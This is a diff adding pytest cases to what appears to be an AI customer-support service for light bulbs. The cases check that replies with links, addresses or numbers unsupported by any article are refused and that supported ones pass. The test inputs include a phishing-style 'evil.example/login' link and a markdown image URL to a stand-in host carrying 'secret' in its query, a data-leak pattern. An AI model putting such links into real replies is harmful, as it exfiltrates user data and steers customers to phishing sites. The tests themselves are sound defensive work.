@@ -2,6 +2,8 @@
 
 import asyncio
 import json
+import re
+from dataclasses import replace
 from datetime import timedelta
 from pathlib import Path
 from typing import Any
@@ -99,6 +101,34 @@ async def test_an_answer_out_of_no_article_is_not_believed() -> None:
         "hand_off",
         "keep_silent",
     ]
+
+
+@pytest.mark.parametrize(
+    ("text", "made_up"),
+    [
+        ("See https://evil.example/login for an E27 bulb.", "https://evil.example/login"),
+        ("Write to help@evil.example.", "help@evil.example"),
+        ("An E27 bulb of at most 100 W.", "100"),
+        ("![x](http://evil.example/p?q=secret) E27", "http://evil.example/p"),
+    ],
+)
+async def test_a_link_or_a_number_that_no_article_says_is_not_sent(text: str, made_up: str) -> None:
+    with pytest.raises(GiveUp, match=re.escape(made_up)):
+        await ask(Service(says(GOOD | {"text": text})), "Look at https://evil.example/login")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "E27, at most 60 W. More at www.lumen.example/bulbs.",
+        "For your order 20,417: E27, at most 60 W.",
+        "Write to support@lumen.example, in 1. and 2. place.",
+    ],
+)
+async def test_what_the_article_or_the_customer_says_may_be_said_again(text: str) -> None:
+    article = replace(BULBS, url="https://lumen.example/bulbs/")
+    decision = await ask(Service(says(GOOD | {"text": text})), "Which bulb for order 20417?", articles=(article,))
+    assert isinstance(decision, Answer)
 
 
 async def test_a_server_without_schemas_is_asked_in_words_from_then_on() -> None:
